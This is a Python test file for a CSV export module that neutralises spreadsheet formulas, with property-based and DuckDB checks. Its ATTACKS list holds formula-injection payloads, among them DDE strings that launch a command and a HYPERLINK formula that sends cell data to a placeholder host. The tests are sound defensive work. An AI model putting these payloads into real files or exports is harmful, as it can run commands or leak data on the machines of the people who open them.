"""Formulas in CSV files: none is left, every text comes back, and the two languages agree on what one is."""

from pathlib import Path

import duckdb
import pytest
from hypothesis import given
from hypothesis import strategies as st

from datong.kernel.formulas import PATTERN, defused, restored
from datong.sharing.csv_files import write_csv

LETTERS = st.text(st.sampled_from("=+-@\t\r\n'(|!1a甲"), max_size=6) | st.text(max_size=20)
ATTACKS = (
    "=1+1",
    '=HYPERLINK("http://x.example?"&A1)',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1",
    "\r=1",
    "-1\n+cmd|'/C calc'!A0",
)
HARMLESS = ("", "+8613900000000", "-12.5", "-", "甲", "a=b", "1-2", "-无-", "JL0001", "2026-11-28")


@pytest.mark.parametrize("text", ATTACKS)
def test_a_formula_is_written_as_text(text: str) -> None:
    assert defused(text) == "'" + text
    assert restored(defused(text)) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
    assert defused(text) == restored(text) == text


@given(LETTERS)
def test_every_text_comes_back(text: str) -> None:
    assert restored(defused(text)) == text
    assert not defused(text).startswith(("=", "@", "\t", "\r"))


@given(st.lists(LETTERS.filter(lambda text: "\x00" not in text and text.isprintable()), max_size=20))
def test_the_engine_that_writes_files_sees_the_same_formulas(texts: list[str]) -> None:
    with duckdb.connect() as connection:
        for text in [*texts, *ATTACKS, *HARMLESS]:
            found = connection.execute("SELECT regexp_matches(?, ?)", [text, PATTERN]).fetchone()
            assert found == (defused(text) != text,)


def test_a_written_table_has_no_formula_and_the_same_values(tmp_path: Path) -> None:
    path = tmp_path / "it's.csv"
    with duckdb.connect() as connection:
        connection.execute('CREATE TABLE t ("=n" INTEGER, "say ""t""" VARCHAR)')
        values = [None, *ATTACKS, *HARMLESS]
        connection.executemany("INSERT INTO t VALUES (?, ?)", [[-number, text] for number, text in enumerate(values)])
        write_csv(connection, "t", path)
        rows = connection.execute(
            "SELECT * FROM read_csv(?, header = true, all_varchar = true, nullstr = '')", [str(path)]
        ).fetchall()
    assert path.read_text().splitlines()[0] == '\'=n,"say ""t"""'
    assert [row[0] for row in rows] == [str(-number) for number, _ in enumerate(values)]
    assert [restored(row[1] or "") for row in rows] == [text or "" for text in values]
